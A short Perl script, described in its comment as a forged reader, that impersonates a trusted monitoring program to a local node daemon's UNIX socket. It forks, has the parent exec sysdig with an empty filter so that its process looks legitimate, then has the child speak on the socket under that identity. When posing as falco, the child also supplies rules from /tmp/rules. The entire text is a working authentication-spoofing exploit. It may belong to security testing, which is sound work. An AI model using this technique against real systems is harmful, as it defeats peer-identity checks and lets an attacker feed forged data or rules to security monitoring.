# A forged reader: connects, becomes the node's own program, and has a child speak on in its name.
require '/tmp/reader.pl';
my ($program) = @ARGV;
my $socket = IO::Socket::UNIX->new('/run/cksl/node.sock') or die;
if (fork) {
    open(STDOUT, '>', '/dev/null');
    exec '/usr/bin/sysdig', 'proc.name=nothing-of-that-name';
}
# The parent is the real program before anything is said.
select(undef, undef, undef, 0.1) until readlink('/proc/' . getppid() . '/exe') !~ /perl/;
introduce($socket, $program, $program eq 'falco' ? slurp('/tmp/rules') : '') and speak($socket, $program, wanted());
